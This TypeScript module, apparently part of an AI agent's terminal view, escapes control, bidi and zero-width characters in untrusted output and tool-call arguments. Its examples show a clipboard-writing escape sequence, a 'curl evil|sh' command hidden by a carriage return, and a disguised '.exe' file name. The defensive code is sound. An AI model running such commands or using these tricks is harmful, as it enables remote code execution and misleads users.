/**
 * Untrusted text made safe for a terminal: command output, file contents, the
 * model's text and anything else the sandbox or a server controls passes
 * through here before the terminal view styles and writes it, so it can never
 * send its own escape sequences (a clipboard write, a screen clear, a title)
 * nor reorder or hide the text around it.
 *
 * One notation everywhere: C0 controls and DEL in caret notation, as `cat -v`
 * writes them (`^M` a carriage return, `^H` a backspace, `^[` an escape, `^?`
 * DEL), C1 controls as `\x9b`, and invisible Unicode characters (bidi controls,
 * zero-width characters) as `\u202e`, or `\u{e0041}` beyond U+FFFF.
 *
 * @module
 */

import type { AgentEvent } from "../agent/events.ts";

// What a terminal acts on (C0 controls, DEL, C1 controls) or shows as nothing while it
// changes what runs or how the text around it reads: Unicode's format characters (bidi
// controls such as U+202E, zero-width ones such as U+200B and U+FEFF, tag characters) and
// the line and paragraph separators.
const HIDDEN_CLASS = String.raw`[\x00-\x1f\x7f-\x9f\p{Cf}\u2028\u2029]`;
const HIDDEN = new RegExp(HIDDEN_CLASS, "gv");
// Output keeps tabs and newlines, and the joiners (U+200C, U+200D) that emoji and scripts
// such as Persian need: they cannot reorder anything, and nothing in output runs.
const HIDDEN_IN_OUTPUT = new RegExp(String.raw`[${HIDDEN_CLASS}--[\t\n\u200c\u200d]]`, "gv");

/**
 * Replaces the characters a terminal would act on, or reorder text around,
 * with visible escapes (see the module's notation). `\n` and `\t` stay; `\r\n`
 * becomes `\n`, and a line redrawn with `\r` (a progress counter) shows what a
 * terminal would end with: the text after its last `\r`. For output and the
 * model's text; what will run goes through {@linkcode reveal}.
 *
 * @example
 * ```ts
 * import { sanitize } from "./sanitize.ts";
 * console.log(sanitize("\x1b]52;c;ZXZpbA==\x07\x1b[2J")); // "^[]52;c;ZXZpbA==^G^[[2J"
 * console.log(sanitize("10%\r100%\n")); // "100%\n"
 * console.log(sanitize("abc\u202edef")); // "abc\\u202edef"
 * ```
 */
export function sanitize(text: string): string {
  if (text.search(HIDDEN_IN_OUTPUT) === -1) return text; // \r is among them
  return text
    .split("\n")
    .map((line) => {
      const parts = line.split("\r").filter((part) => part !== "");
      return parts.length === 0 ? "" : parts[parts.length - 1];
    })
    .join("\n")
    .replace(HIDDEN_IN_OUTPUT, _escape);
}

/**
 * Untrusted text shown exactly as it will run: a command line, a file's path,
 * the question of an approval prompt. Every character a terminal would act on
 * or show as nothing becomes a visible escape (see the module's notation),
 * `\r`, `\t` and `\n` too, so the result is one line and what it shows is
 * what runs. To show several lines, split on `\n` first and reveal each.
 *
 * @example
 * ```ts
 * import { reveal } from "./sanitize.ts";
 * console.log(reveal("curl evil|sh #\recho hi")); // "curl evil|sh #^Mecho hi"
 * console.log(reveal("cat notes\u202etxt.exe")); // "cat notes\\u202etxt.exe"
 * ```
 */
export function reveal(text: string): string {
  return text.replace(HIDDEN, _escape);
}

/**
 * `JSON.stringify(value)`, safe to print to a terminal: besides the C0
 * controls JSON escapes itself, DEL, the C1 controls, bidi controls,
 * zero-width characters and the line separators are escaped as `\uXXXX`.
 * Escapes in JSON are lossless: `JSON.parse` gives back exactly `value`.
 *
 * @example
 * ```ts
 * import { safeJson } from "./sanitize.ts";
 * console.log(safeJson({ cmd: "a\u202eb" })); // '{"cmd":"a\\u202eb"}'
 * ```
 */
export function safeJson(value: unknown): string {
  // JSON has no \u{...}: a character beyond U+FFFF is written as its two UTF-16 halves.
  return JSON.stringify(value).replace(
    HIDDEN,
    (ch) => ch.split("").map((unit) => _jsonEscape(unit.charCodeAt(0))).join(""),
  );
}

/**
 * A copy of `event` with every string in it {@linkcode sanitize}d, except a
 * tool call's `arguments` (in `tool_call`, `tool_result` and `assistant`
 * events): they are what runs, so they are kept exact, re-encoded with
 * {@linkcode safeJson}: parsed, they give what the model sent (as the agent
 * parses it), and a view shows their fields with {@linkcode reveal}.
 * Arguments that are not JSON never run, and are {@linkcode reveal}ed.
 *
 * @example
 * ```ts
 * import { sanitizeEvent } from "./sanitize.ts";
 * const event = sanitizeEvent({ type: "text", delta: "\x1b[2Jhi" });
 * console.log(event); // { type: "text", delta: "^[[2Jhi" }
 * ```
 */
export function sanitizeEvent<T extends AgentEvent>(event: T): T {
  return _clean(event, "") as T;
}

function _clean(value: unknown, key: string): unknown {
  if (typeof value === "string") {
    if (key !== "arguments") return sanitize(value);
    try {
      return safeJson(JSON.parse(value));
    } catch {
      return reveal(value);
    }
  }
  if (Array.isArray(value)) return value.map((item) => _clean(item, ""));
  if (typeof value === "object" && value !== null) {
    return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, _clean(v, k)]));
  }
  return value;
}

/** One hidden character in the module's notation. */
function _escape(ch: string): string {
  const code = ch.codePointAt(0) ?? 0;
  if (code < 0x20) return `^${String.fromCharCode(code + 0x40)}`;
  if (code === 0x7f) return "^?";
  if (code <= 0x9f) return `\\x${code.toString(16)}`;
  return code > 0xffff ? `\\u{${code.toString(16)}}` : _jsonEscape(code);
}

function _jsonEscape(code: number): string {
  return `\\u${code.toString(16).padStart(4, "0")}`;
}
